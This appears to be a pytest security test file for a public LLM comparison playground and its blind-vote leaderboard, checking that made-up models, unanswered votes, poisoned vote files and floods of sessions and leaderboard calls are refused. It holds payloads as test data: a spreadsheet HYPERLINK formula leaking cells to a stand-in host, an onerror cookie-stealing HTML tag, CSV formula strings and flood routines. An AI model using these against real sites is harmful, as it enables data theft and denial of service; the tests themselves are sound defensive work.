"""A hostile visitor of the public Space against the blind leaderboard: made-up models, failed panes, formula cells,
poisoned vote files, a flood of sessions and a flood of leaderboards (each probe replayed)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest

from components.core.service import EngineRegistry, Playground
from components.features import ratings
from components.features.compare import (
    PaneResult,
    PaneSpec,
    Round,
    VoteLog,
    check_vote,
    run_round,
    vote_record,
)
from components.serving import launch as serving
from components.serving import limits
from components.vocabulary.catalog import load_catalog
from components.vocabulary.generation import InputError
from components.vocabulary.messages import MESSAGES, t
from components.vocabulary.settings import SETTING_NAMES
from tests.app_server import RunningApp, free_port, running_app
from tests.test_compare import ScriptedEngine, fake_catalog
from tests.test_ratings import bt_votes, write_votes

#: what the probe typed into the compare pickers
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
IMAGE = "<img src=x onerror=alert(document.cookie)>"
HUGE = "x" * 1_500_000
TGI_A, TGI_B = "em-german-leo-mistral/tgi", "leo-hessianai-7b-chat/tgi"


@pytest.fixture
def engine() -> ScriptedEngine:
    return ScriptedEngine()


@pytest.fixture
def playground(engine: ScriptedEngine) -> Playground:
    cat = fake_catalog()
    return Playground(cat, EngineRegistry(cat, overrides={"llama_cpp": engine}))


@pytest.fixture
def no_rate_limit() -> Iterator[None]:
    limits.reset_rate_limiter(limits.RateLimiter(None))
    yield
    limits.reset_rate_limiter()


def visitor(host: str = "203.0.113.5", session: str = "attacker") -> Any:
    return SimpleNamespace(headers={}, client=SimpleNamespace(host=host), session_hash=session, query_params={})


def fn_named(demo: Any, qualname_start: str) -> Any:
    return next(f.fn for f in demo.fns.values() if getattr(f.fn, "__qualname__", "").startswith(qualname_start))


def pane_values(*models: str) -> list[Any]:
    """The compare tab's per-pane inputs (variant, build, system prompt, own settings?, temperature, max new tokens)."""
    out: list[Any] = []
    for model in (*models, "fast/q", "fast/q")[:4]:
        variant, _, quant = model.rpartition("/")
        out += [variant, quant, None, False, None, 8]
    return out


async def compare_send(demo: Any, request: Any, *models: str, blind: bool = True, lang: str = "de") -> list[Any]:
    """Runs the compare tab's Send handler as the page calls it; returns the rounds it ended with."""
    send = fn_named(demo, "_events_generation.<locals>.send_prompt")
    settings = [None] * len(SETTING_NAMES)
    values = ["Welche Antwort ist besser?", [], 2, blind, lang, True, *settings, *pane_values(*models)]
    conv: list[Any] = []
    async for update in send(request, None, *values):  # None: the visitor is not signed in (gr.OAuthToken)
        conv = next((u for u in update if isinstance(u, list) and all(isinstance(r, Round) for r in u)), conv)
    return conv


# ---- made-up models are refused before anything runs ---------------------------------------------------
@pytest.fixture(scope="module")
def compare_app() -> tuple[Any, ScriptedEngine]:
    """The whole page on the scripted catalog (built once: it takes seconds)."""
    import app

    engine = ScriptedEngine()
    cat = fake_catalog()
    return app.build_app(Playground(cat, EngineRegistry(cat, overrides={"llama_cpp": engine}))), engine


@pytest.mark.parametrize("made_up", [FORMULA, IMAGE, HUGE], ids=["formula", "html", "1.5-mb"])
async def test_a_blind_compare_round_naming_made_up_models_is_refused_and_nothing_is_stored(
    compare_app: tuple[Any, ScriptedEngine],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    no_rate_limit: None,
    made_up: str,
) -> None:
    """The probe: typed values in the pickers, a blind round between two made-up "models", a vote. Before, both
    panes failed with "unknown model", the vote was stored with the made-up names and they were ranked 1 and 2."""
    demo, engine = compare_app
    engine.requests.clear()
    votes = tmp_path / "votes.jsonl"
    monkeypatch.setenv("PLAYGROUND_VOTES_FILE", str(votes))
    vote = fn_named(demo, "_events_votes.<locals>.make_vote.<locals>.vote")
    with pytest.warns(UserWarning) as warned:
        conv = await compare_send(demo, visitor(), f"{made_up}/q", "fast/q")
    assert conv == [] and engine.requests == [], "the round must not start"
    message = str(warned[-1].message)
    assert message.startswith(MESSAGES["err_unknown_model"]["de"].split("„")[0]), message
    with pytest.warns(UserWarning, match=MESSAGES["err_vote_not_blind"]["de"]):
        await vote(conv, 2, "de", visitor())
    assert not votes.exists()
    # the English page says it in English
    with pytest.warns(UserWarning, match="Unknown model"):
        await compare_send(demo, visitor(), "fast/q", f"{made_up}/q", blind=False, lang="en")
    assert engine.requests == []
    # two builds of the catalog: the round runs and its vote is stored, with catalog ids
    conv = await compare_send(demo, visitor(), "fast/q", "echo/q")
    assert conv and conv[-1].votable and len(engine.requests) == 2
    await vote(conv, 2, "de", visitor())
    [record] = [json.loads(line) for line in votes.read_text(encoding="utf-8").splitlines()]
    assert sorted(p["model"] for p in record["panes"]) == ["echo/q", "fast/q"]


async def test_run_round_and_the_compare_api_refuse_made_up_models_before_anything_runs(
    playground: Playground, engine: ScriptedEngine
) -> None:
    import gradio as gr

    from components.api.compare import register as register_compare_api

    for made_up in (FORMULA, IMAGE, HUGE):
        with pytest.raises(InputError) as refused:
            async for _ in run_round(playground, [PaneSpec("fast/q"), PaneSpec(made_up)], "Hallo?", blind=True):
                pass
        assert refused.value.key == "err_unknown_model" and len(refused.value.params["model"]) <= 80
    with gr.Blocks() as demo:
        register_compare_api(playground)
    compare = next(f.fn for f in demo.fns.values() if f.api_name == "compare")
    for lang, text in (("de", "Unbekanntes Modell"), ("en", "Unknown model")):
        with pytest.raises(gr.Error, match=text):
            api_settings = [None] * (len(SETTING_NAMES) - 1)  # the API's settings: all but the stop strings
            _ = [u async for u in compare("Hallo?", ["fast/q", FORMULA], None, *api_settings, lang)]
    assert engine.requests == []


def test_a_blind_session_takes_only_catalog_ids_of_builds_that_run(playground: Playground) -> None:
    from components.ui.arena import check_session

    for models in (["fast/q", FORMULA], [IMAGE, HUGE], ["fast/q"] * 2, ["fast/q"] * 40):
        with pytest.raises(InputError) as refused:
            check_session(playground, "german_eval", "", 1, models, 16)
        assert refused.value.key in {"err_unknown_model", "err_session_models", "err_compare_models"}
    run = check_session(playground, "german_eval", "", 1, ["fast", "echo/q"], 16)  # a bare variant id is its build
    assert run.models == ["fast/q", "echo/q"]


# ---- a vote counts only when every pane answered ---------------------------------------------------
async def test_a_vote_on_a_round_with_a_failed_or_silent_pane_is_not_stored(
    playground: Playground, tmp_path: Path
) -> None:
    from components.features.compare import CatalogIds
    from components.ui.arena import SessionRun, session_reveal
    from components.ui.compare import reveal_text, vote_updates

    log = VoteLog(tmp_path / "votes.jsonl", known=CatalogIds(playground.catalog))
    last = None
    async for update in run_round(playground, [PaneSpec("broken/q"), PaneSpec("fast/q")], "Hallo?", blind=True):
        last = update
    assert last is not None and last.done and last.panes[0].error
    assert last.unanswered == "A" and not last.votable
    for choice in ("A", "B", "tie"):
        with pytest.raises(InputError) as refused:
            await log.vote(last, choice, "viewer-1")
        assert refused.value.key == "err_vote_unanswered"
    assert not log.path.exists() and last.winner is None
    # the page keeps the vote closed and says why, in either language
    for lang, text in (("de", "Modell A"), ("en", "Model A")):
        shown = reveal_text(last, lang)
        assert shown == t("err_vote_unanswered", lang, letters="A") and text in shown
    assert not any(u.get("interactive") for u in vote_updates([last], 2, "de")[:5])
    # a blind session goes on to its next prompt instead of waiting for a vote that cannot come
    run = SessionRun("s1", "german_eval", [], ["broken/q", "fast/q"], 8, rounds=[last])
    assert run.settled and "Modell A" in session_reveal(run, "de")
    # a pane stopped before any text gave no answer either
    silent = Round("x", [PaneResult(0, "fast/q", done=True, text="Antwort"), PaneResult(1, "echo/q", done=True)])
    silent.blind = True
    with pytest.raises(InputError, match="err_vote_unanswered"):
        check_vote(silent, "A")
    silent.panes[1].text = "auch eine"
    assert check_vote(silent, "A") == "A"
    await log.vote(silent, "A", "viewer-1")
    [record] = log.read()
    assert [p["model"] for p in record["panes"]] == ["fast/q", "echo/q"]


def test_a_vote_naming_a_model_outside_the_catalog_is_not_stored(tmp_path: Path) -> None:
    from components.features.compare import CatalogIds

    log = VoteLog(tmp_path / "votes.jsonl", known=CatalogIds(fake_catalog()))
    forged = Round("x", [PaneResult(0, FORMULA, done=True, text="a"), PaneResult(1, "fast/q", done=True, text="b")])
    forged.blind = True
    with pytest.raises(InputError, match="err_vote_unknown_model"):
        asyncio.run(log.vote(forged, "A", "v"))
    assert not log.path.exists()


def test_every_field_of_a_vote_record_has_a_cap() -> None:
    panes = [
        PaneResult(0, "fast/q", done=True, text="ä" * 2_000_000, error=None, settings={"stop": ["x" * 100_000]}),
        PaneResult(1, "echo/q", done=True, text="b", system_prompt="s" * 100_000),
    ]
    r = Round("p" * 1_000_000, panes, blind=True, lang="x" * 1000, shared_settings={"seed": "9" * 100_000})
    r.session, r.prompt_set, r.prompt_id, r.category = HUGE, HUGE, HUGE, HUGE
    r.round_id = HUGE
    record = vote_record(r, "A", viewer=HUGE)
    line = json.dumps(record, ensure_ascii=False)
    assert len(line) < 200_000, len(line)
    for name, cap in ratings.FIELD_CHARS.items():
        if name in record and record[name] is not None:
            assert len(record[name]) <= cap, name
    assert record["panes"][0]["settings"] is None and record["shared_settings"] is None


# ---- exports that go to spreadsheets ----------------------------------------------------------------
def test_csv_exports_escape_formula_cells(tmp_path: Path) -> None:
    from components.ui.arena import write_board_exports

    hostile = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tx", "\r=1"]
    records = []
    for k, value in enumerate(hostile):
        panes = [{"letter": "A", "model": f"{value}/q"}, {"letter": "B", "model": "ok/q"}]
        fields = dict.fromkeys(("session", "prompt_set", "prompt_id", "category", "ts"), value)
        records.append({"schema": 2, "round_id": f"r{k}", "viewer": "v", "panes": panes, "winner": "A", **fields})
    board = ratings.leaderboard(records, rounds=50)
    assert any(m.startswith("=") for m in board.models)
    texts = []
    for name in write_board_exports(board, records):
        with open(name, encoding="utf-8", newline="") as fh:  # the bytes as a spreadsheet gets them
            texts.append(fh.read())
    votes_csv, _, board_csv, _ = texts
    cells = [c for row in csv.reader(io.StringIO(votes_csv + board_csv)) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert "'=1+1" in cells and "'=1+1/q" in cells and "'-2+3/q" in cells
    # numbers stay numbers: a rating, its interval and the counts
    rows = list(csv.DictReader(io.StringIO(board_csv)))
    assert all(float(r["rating"]) and int(r["battles"]) for r in rows)


# ---- an old, poisoned votes file ------------------------------------------------------------------
def test_a_poisoned_votes_file_counts_only_catalog_ids_and_cannot_bloat_the_page(tmp_path: Path) -> None:
    """The file the probe left behind: a vote between two made-up "models" with names of up to 1.5 MB, next to real
    votes. The page, the filters and the exports stay small and show catalog ids only."""
    from components.features.compare import CatalogIds
    from components.ui.arena import leaderboard_html, session_choices, variant_choices_of, write_board_exports

    catalog = load_catalog()
    known = CatalogIds(catalog)
    real = bt_votes(seed=3, n=60, strengths={"em-german-leo-mistral/fp16": 1100.0, "instruct-igel-001/fp16": 900.0})
    poison = {
        "schema": 2, "round_id": "p1", "viewer": "v", "session": HUGE, "prompt_set": HUGE, "category": HUGE,
        "ts": HUGE, "prompt": HUGE, "winner": "A", "winner_model": f"{HUGE}/a",
        "panes": [{"letter": "A", "model": f"{HUGE}/a", "output": HUGE}, {"letter": "B", "model": IMAGE}],
    }  # fmt: skip
    formula = {**poison, "round_id": "p2", "session": "s", "panes": [{"model": FORMULA}, {"model": IMAGE}]}
    path = write_votes(tmp_path / "votes.jsonl", [poison, *real, formula])
    assert path.stat().st_size > 4_000_000
    log = VoteLog(path, known=known)
    board = log.board(rounds=50)
    assert set(board.models) == {"em-german-leo-mistral/fp16", "instruct-igel-001/fp16"}
    assert board.tally.votes == 60 and board.tally.not_counted["unknown_model"] == 2
    page = leaderboard_html(board, "de")
    assert len(page) < 20_000 and "onerror" not in page and "HYPERLINK" not in page
    assert t("lb_reason_unknown_model", "de", n=2) in page
    records, _ = log.votes()
    assert len(json.dumps(records)) < 60_000, "what the page reads of the file is capped"
    choices = session_choices(records, "de", known) + variant_choices_of(records, "de", known)
    assert max(len(label) + len(value) for label, value in choices) < 200
    exports = [Path(p).read_text(encoding="utf-8") for p in write_board_exports(board, records, known)]
    assert max(len(text) for text in exports) < 60_000
    rows = ratings.vote_rows(records, known)
    assert [r["reason"] for r in rows if not r["counted"]] == ["unknown_model", "unknown_model"]


# ---- the leaderboard under a flood of computations ------------------------------------------------------
def test_one_computation_per_key_and_the_default_board_never_waits_for_another_key() -> None:
    cache = ratings.LeaderboardCache(size=4, max_waiting=2)
    calls: list[str] = []
    release = threading.Event()
    empty = ratings.leaderboard([], rounds=0)

    def slow(name: str) -> Any:
        def make() -> Any:
            calls.append(name)
            release.wait(10)
            return empty

        return make

    # ten callers of one key at once: one computation
    futures = [cache.submit("filter-1", slow("filter-1")) for _ in range(10)]
    assert len({id(f) for f in futures}) == 1
    cache.submit("filter-2", slow("filter-2"))
    with pytest.raises(ratings.LeaderboardBusy) as busy:
        cache.submit("filter-3", slow("filter-3"))
    assert busy.value.key == "err_lb_busy"
    # the default board is computed on its own lane while both others wait
    start = time.perf_counter()
    assert cache.get("default", lambda: empty, priority=True) is empty
    assert time.perf_counter() - start < 1.0
    release.set()
    assert all(f.result(10) is empty for f in futures)
    assert calls == ["filter-1", "filter-2"] and len(cache) == 3
    assert cache.submit("filter-1", slow("again")).result(1) is empty and calls == ["filter-1", "filter-2"]


def test_the_pages_filters_are_rate_limited_and_its_default_board_is_not(tmp_path: Path) -> None:
    import gradio as gr

    from components.ui.arena import build_leaderboard_view
    from components.ui.common import Translations

    log = VoteLog(write_votes(tmp_path / "votes.jsonl", bt_votes(seed=4, n=40)))
    with gr.Blocks():
        view = build_leaderboard_view(Translations(), log, gr.State("de"))
    limits.reset_rate_limiter(limits.RateLimiter(limits.Rate(2, 60)))
    try:
        me = visitor("198.51.100.20")
        for category in ("reasoning", "writing"):
            assert "lb-view" in asyncio.run(view.update("de", "", category, "", "", me))[0]
        with pytest.warns(UserWarning, match="Zu viele Anfragen"):
            refused = asyncio.run(view.update("de", "", "explanation", "", "", me))
        assert all(u == gr.update() for u in refused)
        for _ in range(5):  # the board of every page load stays open
            assert "lb-ratings" in asyncio.run(view.update("de", "", "", "", "", me))[0]
    finally:
        limits.reset_rate_limiter()


CALL_PARAMS = ["prompt_set", "category", "session", "variant", "rounds", "method", "lang"]


def call_leaderboard(url: str, host: str, **values: Any) -> tuple[float, dict[str, Any]]:
    """/leaderboard over Gradio's REST route as the visitor `host` (X-Forwarded-For from a trusted proxy):
    (seconds, {"ok": result} or {"error": message})."""
    data = [values.get(name) for name in CALL_PARAMS]
    start = time.perf_counter()
    with httpx.Client(timeout=120, headers={"X-Forwarded-For": host}) as http:
        event_id = http.post(url + "/gradio_api/call/leaderboard", json={"data": data}).json()["event_id"]
        kind = None
        with http.stream("GET", f"{url}/gradio_api/call/leaderboard/{event_id}") as response:
            for line in response.iter_lines():
                if line.startswith("event:"):
                    kind = line.split(":", 1)[1].strip()
                elif line.startswith("data:") and kind in ("complete", "error"):
                    payload = json.loads(line[5:].strip() or "null")
                    took = time.perf_counter() - start
                    if kind == "error":
                        return took, {"error": payload.get("error") if isinstance(payload, dict) else str(payload)}
                    return took, {"ok": payload[0]}
    raise AssertionError("no result")


@pytest.fixture
def leaderboard_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, Path]]:
    """A served /leaderboard on 3 000 votes of 12 models, behind a trusted proxy at 127.0.0.1, at most 10 calls per
    minute per visitor."""
    import gradio as gr

    from components.api.leaderboard import register

    strengths = {f"m{i}/q": 900.0 + 25 * i for i in range(12)}
    path = write_votes(tmp_path / "votes.jsonl", bt_votes(seed=9, n=3000, strengths=strengths))
    for name, value in {
        "PLAYGROUND_TRUSTED_PROXIES": "1",
        "PLAYGROUND_TRUSTED_PROXY_IPS": "127.0.0.1",
        "PLAYGROUND_BOOTSTRAP_ROUNDS": "200",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("PLAYGROUND_PUBLIC", raising=False)
    monkeypatch.delenv("SPACE_ID", raising=False)
    limits.reset_rate_limiter(limits.RateLimiter(limits.Rate(10, 60)))
    with gr.Blocks() as demo:
        register(VoteLog(path))
    demo.queue(default_concurrency_limit=None)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        yield f"http://127.0.0.1:{port}", path
    finally:
        demo.close()
        limits.reset_rate_limiter()


@pytest.mark.slow
def test_a_flood_of_leaderboards_is_rate_limited_and_the_default_one_still_answers_at_once(
    leaderboard_server: tuple[str, Path],
) -> None:
    """The probe: one visitor asks /leaderboard for many `rounds` values at once (12-19 s of CPU each at 3 000
    votes); before, every leaderboard queued behind them under one lock (49.6 s for a page load's)."""
    url, path = leaderboard_server
    took, first = call_leaderboard(url, "198.51.100.1")
    assert "ok" in first and first["ok"]["counted"]["votes"] == 3000, first
    with path.open("a", encoding="utf-8") as fh:  # a new vote: the default board must be computed again
        fh.write(json.dumps(bt_votes(seed=10, n=1, strengths={"m0/q": 1.0, "m1/q": 2.0})[0] | {"round_id": "n"}) + "\n")
    results: list[tuple[float, dict[str, Any]]] = []

    def attack(k: int) -> None:
        results.append(call_leaderboard(url, "203.0.113.66", rounds=2500 + k))

    attackers = [threading.Thread(target=attack, args=(k,)) for k in range(14)]
    for th in attackers:
        th.start()
    time.sleep(1.5)  # the attacker's computations are running
    took, default = call_leaderboard(url, "198.51.100.2")
    assert "ok" in default and default["ok"]["counted"]["votes"] == 3001, default
    assert took < 1.5, f"the default leaderboard took {took:.2f} s during the flood"
    for th in attackers:
        th.join(120)
    errors = [r["error"] for _, r in results if "error" in r]
    assert len(errors) >= 4, "10 calls a minute: at least 4 of 14 refused"
    assert any(t("err_rate_limited", "de").split("(")[0] in e for e in errors), errors


@pytest.mark.slow
def test_rounds_is_fixed_in_the_public_profile(leaderboard_server: tuple[str, Path], monkeypatch: Any) -> None:
    url, _ = leaderboard_server
    monkeypatch.setenv("PLAYGROUND_PUBLIC", "1")
    for lang in ("de", "en"):
        _, refused = call_leaderboard(url, "198.51.100.3", rounds=3000, lang=lang)
        assert refused.get("error", "").startswith(t("err_lb_rounds_fixed", lang, rounds=200)[:20]), refused
    _, same = call_leaderboard(url, "198.51.100.3", rounds=200)
    assert same["ok"]["bootstrap_rounds"] == 200


# ---- sessions: one address cannot evict another visitor's -----------------------------------------------
def scope_of(address: str) -> dict[str, Any]:
    return {"type": "http", "headers": [(b"x-forwarded-for", address.encode())], "client": ("127.0.0.1", 5000)}


def test_a_flood_of_sessions_from_one_address_evicts_only_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    import gradio as gr

    monkeypatch.setenv("PLAYGROUND_TRUSTED_PROXIES", "1")
    monkeypatch.setenv("PLAYGROUND_TRUSTED_PROXY_IPS", "127.0.0.1")
    with gr.Blocks() as demo:
        rounds = gr.State([])
    demo.playground_sessions_per_visitor = 50
    holder_class = serving.fair_state_holder()
    assert holder_class is not None
    holder = holder_class()
    holder.set_blocks(demo)
    holder.capacity = 2000

    def as_visitor(address: str, session: str) -> Any:
        token = serving.REQUEST_SCOPE.set(scope_of(address))
        try:
            return holder[session]
        finally:
            serving.REQUEST_SCOPE.reset(token)

    as_visitor("198.51.100.1", "victim")[rounds._id] = ["a blind round"]
    neighbours = [f"n{i}" for i in range(30)]
    for i, session in enumerate(neighbours):
        as_visitor(f"192.0.2.{i}", session)
    for _ in range(2100):
        as_visitor("203.0.113.9", uuid.uuid4().hex)
    assert as_visitor("198.51.100.1", "victim")[rounds._id] == ["a blind round"]
    assert all(s in holder for s in neighbours)
    assert holder.sessions_of("ip:203.0.113.9") == 50 and len(holder.session_data) == 50 + 31
    # over the global bound the visitor with the most sessions loses first, never the one with few
    holder.capacity = 60
    for _ in range(20):
        as_visitor("203.0.113.9", uuid.uuid4().hex)
    assert "victim" in holder and all(s in holder for s in neighbours) and len(holder.session_data) == 60
    freed = serving.sweep_sessions(SimpleNamespace(state_holder=holder), idle_s=-1, closed_grace_s=-1)
    assert freed == 60 and holder.sessions_of("ip:203.0.113.9") == 0


def config_ids(url: str) -> tuple[dict[str, Any], dict[str, int]]:
    config = httpx.get(url + "/config", timeout=30).json()
    ids = {c["props"]["elem_id"]: c["id"] for c in config["components"] if c.get("props", {}).get("elem_id")}
    return config, ids


def dependency(config: dict[str, Any], target: int, min_inputs: int = 1) -> dict[str, Any]:
    return next(
        d for d in config["dependencies"] if [target, "click"] in d["targets"] and len(d["inputs"]) >= min_inputs
    )


async def queued(http: httpx.AsyncClient, url: str, dep: dict[str, Any], data: list[Any], session: str) -> str:
    """One page event through Gradio's queue, as the browser sends it; the messages until it completes."""
    join = await http.post(
        url + "/gradio_api/queue/join",
        json={"data": data, "fn_index": dep["id"], "session_hash": session, "trigger_id": dep["targets"][0][0]},
    )
    join.raise_for_status()
    seen = []
    async with http.stream("GET", url + "/gradio_api/queue/data", params={"session_hash": session}) as sse:
        async for line in sse.aiter_lines():
            seen.append(line)
            if '"process_completed"' in line:
                return "\n".join(seen)
    raise AssertionError("the event did not complete")


@pytest.fixture
def votes_app(tgi_fleet: Any, tmp_path: Path) -> Iterator[tuple[RunningApp, Path]]:
    votes = tmp_path / "votes.jsonl"
    tgi_server = tgi_fleet  # one TGI server per model: TGI_A and TGI_B are two servers' builds
    env = {
        "TGI_URL": tgi_server.url,
        "PLAYGROUND_PUBLIC": "1",
        "PLAYGROUND_RATE_LIMIT": "100000/min",
        "PLAYGROUND_VISITOR_CONCURRENCY": "0",
        "PLAYGROUND_TRUSTED_PROXIES": "1",
        "PLAYGROUND_TRUSTED_PROXY_IPS": "127.0.0.1",
        "PLAYGROUND_VOTES_FILE": str(votes),
        "PLAYGROUND_TEMP_DIR": str(tmp_path / "runtime"),
    }
    tgi_server.standin.reset()
    with running_app(env) as app:
        yield app, votes


@pytest.mark.slow
def test_2100_new_sessions_from_one_address_do_not_wipe_a_victims_blind_round(
    votes_app: tuple[RunningApp, Path],
) -> None:
    """The probe: a victim has a blind round open; an attacker makes 2 100 calls with new session hashes (the public
    profile keeps 2 000 sessions). Before, the victim's round was gone and the vote refused."""
    app, votes = votes_app
    url = app.url
    config, ids = config_ids(url)
    send = dependency(config, ids["compare-send"], min_inputs=10)
    vote_a = dependency(config, ids["compare-vote-a"])
    blind_switch = next(d for d in config["dependencies"] if any(t[0] == ids["compare-blind"] for t in d["targets"]))
    defaults = {c["id"]: c.get("props", {}).get("value") for c in config["components"]}  # what the page sends

    def send_data(a: str, b: str) -> list[Any]:
        values = {"compare-input": "Hallo, wer bist du?", "compare-pane-count": 2, "compare-blind": True}
        values |= {"compare-family-defaults": True, "compare-max-new-tokens-1": 4, "compare-max-new-tokens-2": 4}
        for n, model in ((1, a), (2, b), (3, TGI_A), (4, TGI_A)):
            variant, _, quant = model.rpartition("/")
            values[f"compare-variant-{n}"], values[f"compare-quant-{n}"] = variant, quant
            values[f"compare-override-{n}"] = False
        by_id = {ids[k]: v for k, v in values.items()}
        return [by_id.get(i, defaults.get(i)) for i in send["inputs"]]

    async def probe() -> tuple[str, str, float]:
        victim = httpx.AsyncClient(timeout=60, headers={"X-Forwarded-For": "198.51.100.1"})
        attacker = httpx.AsyncClient(timeout=60, headers={"X-Forwarded-For": "203.0.113.9"})
        async with victim, attacker:
            # the made-up round of the first probe is refused before it starts
            refused = await queued(attacker, url, send, send_data(f"{FORMULA}/q", TGI_A), "attacker-0")
            assert "Unbekanntes Modell" in refused, refused[-2000:]
            await queued(victim, url, send, send_data(TGI_A, TGI_B), "victim")

            async def new_session() -> None:
                data = [True if i == ids["compare-blind"] else defaults.get(i) for i in blind_switch["inputs"]]
                body = {"data": data, "fn_index": blind_switch["id"], "session_hash": uuid.uuid4().hex}
                response = await attacker.post(url + "/gradio_api/run/predict", json=body)
                assert response.status_code == 200, response.text

            start = time.perf_counter()
            for _ in range(21):
                await asyncio.gather(*(new_session() for _ in range(100)))
            flood_s = time.perf_counter() - start
            vote_a_data = [2 if i == ids["compare-pane-count"] else None for i in vote_a["inputs"]]
            voted = await queued(victim, url, vote_a, vote_a_data, "victim")
            return refused, voted, flood_s

    _refused, voted, flood_s = asyncio.run(probe())
    records = [json.loads(line) for line in votes.read_text(encoding="utf-8").splitlines()] if votes.exists() else []
    assert len(records) == 1, f"the victim's vote was not stored after the flood ({flood_s:.1f} s): {voted[-1500:]}"
    assert {p["model"] for p in records[0]["panes"]} == {TGI_A, TGI_B}


def test_the_session_cap_is_in_the_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SPACE_ID", "PLAYGROUND_PUBLIC", "PLAYGROUND_MAX_SESSIONS_PER_VISITOR"):
        monkeypatch.delenv(name, raising=False)
    assert serving.serving_policy().max_sessions_per_visitor is None
    monkeypatch.setenv("PLAYGROUND_PUBLIC", "1")
    assert serving.serving_policy().max_sessions_per_visitor == 50
    monkeypatch.setenv("PLAYGROUND_MAX_SESSIONS_PER_VISITOR", "7")
    assert serving.serving_policy().max_sessions_per_visitor == 7
